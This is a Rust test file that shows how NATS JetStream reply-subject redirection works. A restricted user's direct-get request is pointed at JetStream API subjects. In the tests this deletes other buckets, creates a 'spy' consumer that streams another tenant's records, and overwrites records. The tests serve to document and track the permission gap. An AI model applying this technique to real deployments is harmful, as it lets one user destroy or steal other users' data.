//! Effects of a user with a documented permission set on the rest of its account. If this fails, servers improved.
//!
//! A server publishes its response to the subject that a request names, and does not check whether the user may publish
//! there. The JetStream API accepts such a response as a request.

use async_nats::{Client, ConnectOptions, HeaderMap};
use harness::{Server, wait};
use kvtyped::Read;
use kvtyped::prelude::*;
use serde_json::{Value, json};

use super::PATIENT;
use super::roles::{TestAccounts, block};
use super::work::{Session, SessionKey};
use crate::needs::needs;

/// The roles that may send direct gets: the user, the section, and a subject without a message.
const ROLES: [(&str, &str, &str); 4] = [
    ("reader", "Reader", "KV_sessions.$KV.sessions.nobody.0"),
    ("writer", "Writer", "KV_sessions.$KV.sessions.nobody.0"),
    ("locker", "Locker", "KV_locks.$KV.locks.nobody"),
    ("acme", "Tenant", "KV_sessions.$KV.sessions.acme.0"),
];

async fn site() -> TestAccounts {
    let mut users: Vec<_> = ROLES.iter().map(|(user, role, _)| ((*user).to_owned(), block(role))).collect();
    users.push(("counter".into(), block("Counter")));
    TestAccounts::new(&users).await
}

async fn client(url: String, user: &str) -> Client {
    let options = ConnectOptions::with_user_and_password(user.into(), "secret".into());
    let inbox = if user == "admin" { "_INBOX".to_owned() } else { format!("_INBOX_{user}") };
    options.custom_inbox_prefix(inbox).connect(url).await.expect("it is let in")
}

/// Sends a request whose response goes to `reply`.
async fn divert(client: &Client, subject: String, reply: &str) {
    client.publish_with_reply(subject, reply.to_owned(), "".into()).await.expect("it is sent");
    client.flush().await.expect("it is sent");
}

async fn ask(client: &Client, subject: String) -> Value {
    let answer = client.request(subject, "".into()).await.expect("the server answers");
    serde_json::from_slice(&answer.payload).expect("it is JSON")
}

/// Creates a bucket that no user has permissions for, with the setting that protects a shared bucket.
async fn foreign(admin: &Store, name: &str) -> Bucket<Session> {
    let bucket: Bucket<Session> = admin.bucket().name(name).rollups(false).await.expect("it is made");
    bucket.put(&Session::new("beta", 1)).await.expect("it is written");
    bucket
}

/// The response to a direct get of a missing key has no body. It is a valid request to delete a bucket.
#[tokio::test]
async fn direct_get_permission_can_delete_other_bucket() {
    needs!(Locks);
    let site = site().await;
    let admin = site.connect("admin", "").await;
    let raw = client(site.server().url(), "admin").await;
    for (user, _, missing) in ROLES {
        let name = format!("of-{user}");
        foreign(&admin, &name).await;
        let attacker = client(site.server().url(), user).await;
        let info = format!("$JS.API.STREAM.INFO.KV_{name}");
        assert!(ask(&raw, info.clone()).await["error"].is_null(), "the control: it exists");
        divert(&attacker, format!("$JS.API.DIRECT.GET.{missing}"), &format!("$JS.API.STREAM.DELETE.KV_{name}")).await;
        wait::until(&format!("{user} deletes {name}"), PATIENT, async || {
            (ask(&raw, info.clone()).await["error"]["code"] == 404).then_some(())
        })
        .await;
        assert_eq!(site.violations(user), [""; 0], "nothing is denied to the {user}");
    }
}

/// The response to a direct get is a record. A user who can write it chooses any request to the JetStream API.
#[tokio::test]
async fn tenant_can_read_other_bucket() {
    needs!(Locks);
    let site = site().await;
    let admin = site.connect("admin", "").await;
    foreign(&admin, "other").await;
    let attacker = client(site.server().url(), "acme").await;
    let mut stolen = attacker.subscribe("_INBOX_acme.stolen").await.expect("its own inbox");
    let config = json!({ "name": "spy", "deliver_subject": "_INBOX_acme.stolen", "ack_policy": "none" });
    let request = json!({ "stream_name": "KV_other", "config": config }).to_string();
    attacker.request("$KV.sessions.acme.0", request.into()).await.expect("it may write its key");
    let own = "$JS.API.DIRECT.GET.KV_sessions.$KV.sessions.acme.0".to_owned();
    divert(&attacker, own, "$JS.API.CONSUMER.CREATE.KV_other.spy").await;
    let message = super::in_time("the record of others", PATIENT, futures::StreamExt::next(&mut stolen)).await;
    assert_eq!(message.expect("it arrives").subject.as_str(), "$KV.other.beta.1");
    assert_eq!(site.violations("acme"), [""; 0]);
}

/// The response to a direct get has the stored headers. A read finds a copied record by its key fields.
#[tokio::test]
async fn reader_can_overwrite_records_with_copies() {
    needs!(Locks);
    let site = site().await;
    site.sessions.delete(&SessionKey::new("acme", 2)).await.expect("it is deleted");
    let attacker = client(site.server().url(), "reader").await;
    for (from, to) in [("acme.2", "beta.1"), ("beta.2", "beta.3")] {
        let read = format!("$JS.API.DIRECT.GET.KV_sessions.$KV.sessions.{from}");
        divert(&attacker, read, &format!("$KV.sessions.{to}")).await;
    }
    let [deleted, copied] = [1, 3].map(|id| SessionKey::new("beta", id));
    wait::until("the marker is copied", PATIENT, async || {
        let entry = site.sessions.get(&deleted).read(Read::Leader).await.expect("it is read");
        entry.is_none().then_some(())
    })
    .await;
    wait::until("the record is copied", PATIENT, async || {
        site.sessions.get(&copied).read(Read::Leader).await.is_err().then_some(())
    })
    .await;
    assert_eq!(site.violations("reader"), [""; 0]);
}

/// Counters refuse rollups. Their users can still overwrite records of others.
#[tokio::test]
async fn counter_user_can_overwrite_but_not_roll_up() {
    needs!(Counters);
    let site = site().await;
    let admin = site.connect("admin", "").await;
    let other = foreign(&admin, "other").await;
    let attacker = client(site.server().url(), "counter").await;
    for what in ["all", "sub"] {
        let mut headers = HeaderMap::new();
        headers.insert("Nats-Incr", "1");
        headers.insert("Nats-Rollup", what);
        let answer = attacker.request_with_headers("$KV.hits.x", headers, "".into()).await.expect("it is answered");
        let answer: Value = serde_json::from_slice(&answer.payload).expect("it is JSON");
        assert!(!answer["error"].is_null(), "{what}: {answer}");
    }
    divert(&attacker, "$JS.API.STREAM.INFO.KV_hits".into(), "$KV.other.beta.1").await;
    wait::until("it is overwritten", PATIENT, async || {
        other.get(&SessionKey::new("beta", 1)).read(Read::Leader).await.is_err().then_some(())
    })
    .await;
}

/// The documented remedy. The control is the deletion of the bucket with the same name in the user's own account.
#[tokio::test]
async fn user_of_other_account_cannot_delete_bucket() {
    needs!(Locks);
    let config = r#"
        accounts {
            ONE { jetstream: enabled, users: [ { user: admin, password: secret } ] }
            TWO { jetstream: enabled, users: [ { user: other, password: secret } ] }
        }
    "#;
    let server = Server::builder().config(config).auth().start().await;
    let url = |user: &str, inbox: &str| format!("nats://{user}:secret@{}?inbox={inbox}", server.addr());
    let admin = Store::connect(url("admin", "_INBOX")).timeout(PATIENT).await.expect("it is let in");
    let theirs = Store::connect(url("other", "_INBOX_other")).timeout(PATIENT).await.expect("it is let in");
    let bucket = foreign(&admin, "sessions").await;
    foreign(&theirs, "sessions").await;
    let attacker = client(server.url(), "other").await;
    let missing = || "$JS.API.DIRECT.GET.KV_sessions.$KV.sessions.nobody.0".to_owned();
    divert(&attacker, missing(), "$KV.sessions.beta.1").await;
    divert(&attacker, missing(), "$JS.API.STREAM.DELETE.KV_sessions").await;
    wait::until("it deletes its own bucket", PATIENT, async || {
        let info = ask(&attacker, "$JS.API.STREAM.INFO.KV_sessions".into()).await;
        (info["error"]["code"] == 404).then_some(())
    })
    .await;
    assert!(bucket.get(&SessionKey::new("beta", 1)).read(Read::Leader).await.expect("it is read").is_some());
}
